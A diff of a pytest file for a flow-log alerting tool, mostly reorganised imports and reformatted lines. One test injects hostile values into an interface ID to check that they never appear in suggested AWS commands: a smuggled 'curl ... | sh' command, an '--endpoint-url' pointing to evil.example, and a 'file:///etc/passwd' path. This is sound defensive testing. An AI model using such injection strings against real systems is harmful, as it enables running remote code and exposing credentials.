@@ -9,11 +9,12 @@ from pathlib import Path
 
 import pytest
 
-from flowverdict.alerts import group
-from flowverdict.delivery import email, sns
-from flowverdict.document import Alert, Severity
-from flowverdict.netconfig.snapshot import load_snapshot, parse_snapshot
-from flowverdict.pipeline import Batch, FixedConfig
+from flowverdict.alerts.grouping import group
+from flowverdict.alerts.model import Alert, Severity
+from flowverdict.delivery import sns
+from flowverdict.delivery.renderers import email
+from flowverdict.network.snapshot import load_snapshot, parse_snapshot
+from flowverdict.verdict.batch import Batch, FixedConfig
 
 ROOT = Path(__file__).parents[2]
 SCENARIOS = ROOT / "tests" / "scenarios"
@@ -35,7 +36,9 @@ def alerts_of(*names: str, edits: Edits = (), beside: bool = True) -> list[Alert
         for variant in {text, edited} if beside else {edited}:
             batch.add_file(io.BytesIO(variant.encode()), name=f"{name}.log")
     with_rules = all(name.startswith("rules-") for name in names)
-    return alerts_in(batch, FixedConfig(load_snapshot(SCENARIOS / "shop.config.json")) if with_rules else None)
+    return alerts_in(
+        batch, FixedConfig(load_snapshot(SCENARIOS / "shop.config.json")) if with_rules else None
+    )
 
 
 def alerts_in(batch: Batch, config: FixedConfig | None = None) -> list[Alert]:
@@ -79,7 +82,15 @@ def test_what_makes_another_problem_makes_another_alert(edit: tuple[str, str]) -
 
 
 def test_without_a_vpc_in_the_log_the_interface_tells_alerts_apart() -> None:
-    assert len(alerts_of("default-format-outbound-response", edits=(("eni-0aaaaaaaaaaaaaaa1", "eni-0aaaaaaaaaaaaaaa9"),))) == 2
+    assert (
+        len(
+            alerts_of(
+                "default-format-outbound-response",
+                edits=(("eni-0aaaaaaaaaaaaaaa1", "eni-0aaaaaaaaaaaaaaa9"),),
+            )
+        )
+        == 2
+    )
 
 
 def test_the_weakest_confidence_is_the_alerts_so_that_certain_holds_for_every_flow() -> None:
@@ -89,15 +100,32 @@ def test_the_weakest_confidence_is_the_alerts_so_that_certain_holds_for_every_fl
     batch = Batch()
     text = (SCENARIOS / "inbound-request.log").read_text()
     batch.add_file(io.BytesIO(text.encode()), name="with flags")
-    batch.add_file(io.BytesIO(text.replace(" - 2 IPv4 ", " - - IPv4 ").replace("10.0.2.20", "10.0.2.21").encode()), name="without")
+    batch.add_file(
+        io.BytesIO(
+            text.replace(" - 2 IPv4 ", " - - IPv4 ").replace("10.0.2.20", "10.0.2.21").encode()
+        ),
+        name="without",
+    )
     (mixed,) = alerts_in(batch)
-    assert (mixed.confidence, dict(mixed.confidences)) == ("possible", {"certain": 1, "possible": 1})
-    assert "at least possible: certain for 1, possible for 1 of 2 flows" in " ".join(email.body(mixed).split())
+    assert (mixed.confidence, dict(mixed.confidences)) == (
+        "possible",
+        {"certain": 1, "possible": 1},
+    )
+    assert "at least possible: certain for 1, possible for 1 of 2 flows" in " ".join(
+        email.body(mixed).split()
+    )
 
 
 def test_most_severe_first() -> None:
-    alerts = alerts_of("closed-connection", "inbound-request", "inbound-response", "internet-without-reject-reason")
-    assert [alert.severity for alert in alerts] == [Severity.CRITICAL, Severity.HIGH, Severity.LOW, Severity.INFO]
+    alerts = alerts_of(
+        "closed-connection", "inbound-request", "inbound-response", "internet-without-reject-reason"
+    )
+    assert [alert.severity for alert in alerts] == [
+        Severity.CRITICAL,
+        Severity.HIGH,
+        Severity.LOW,
+        Severity.INFO,
+    ]
 
 
 # --- severity ---------------------------------------------------------------------------------------------------------
@@ -108,7 +136,11 @@ def test_most_severe_first() -> None:
     [
         ("outbound-response", (), "critical"),
         ("inbound-response", (), "critical"),
-        ("ntp-both-ports-the-same", (), "high"),  # a response no more than possible is not called critical
+        (
+            "ntp-both-ports-the-same",
+            (),
+            "high",
+        ),  # a response no more than possible is not called critical
         ("inbound-request", (), "high"),
         ("outbound-request", (), "high"),
         ("outbound-request", (("10.0.3.30", "198.51.100.7"),), "medium"),
@@ -145,7 +177,10 @@ def test_what_blocks_is_part_of_what_an_alert_is_about() -> None:
     plain, by_rule = alerts_of("outbound-response")[0], alerts_of("rules-outbound-response")[0]
     assert by_rule.blocker == "acl-0aaa0000000000001 rule 32767"
     assert by_rule.fingerprint != plain.fingerprint
-    assert alerts_of("rules-both-layers")[0].blocker == "acl-0ccc0000000000003 rule 32767, sg-0ccc0000000000003"
+    assert (
+        alerts_of("rules-both-layers")[0].blocker
+        == "acl-0ccc0000000000003 rule 32767, sg-0ccc0000000000003"
+    )
 
 
 def test_tags_that_name_an_owner_are_shown_and_no_line_is_faked_with_them() -> None:
@@ -207,12 +242,19 @@ def test_subjects_are_short_printable_ascii_and_attributes_are_text(name: str) -
     assert subject.isprintable()
     attributes = sns.attributes(alert)
     assert set(attributes) == {"kind", "status", "severity", "verdict", "leg", "direction"}
-    assert all(value["DataType"] == "String" and value["StringValue"] for value in attributes.values())
+    assert all(
+        value["DataType"] == "String" and value["StringValue"] for value in attributes.values()
+    )
 
 
-@pytest.mark.parametrize("hostile", ["eni-1;curl${IFS}x|sh", "--endpoint-url=https://evil.example", "file:///etc/passwd", "eni-*"])
+@pytest.mark.parametrize(
+    "hostile",
+    ["eni-1;curl${IFS}x|sh", "--endpoint-url=https://evil.example", "file:///etc/passwd", "eni-*"],
+)
 def test_what_is_no_id_is_in_no_command(hostile: str) -> None:
-    alerts = alerts_of("default-format-outbound-response", edits=(("eni-0aaaaaaaaaaaaaaa1", hostile),))
+    alerts = alerts_of(
+        "default-format-outbound-response", edits=(("eni-0aaaaaaaaaaaaaaa1", hostile),)
+    )
     (alert,) = [alert for alert in alerts if hostile in alert.interfaces]
     assert alert.next_steps
     assert not any("aws ec2" in step for step in alert.next_steps)
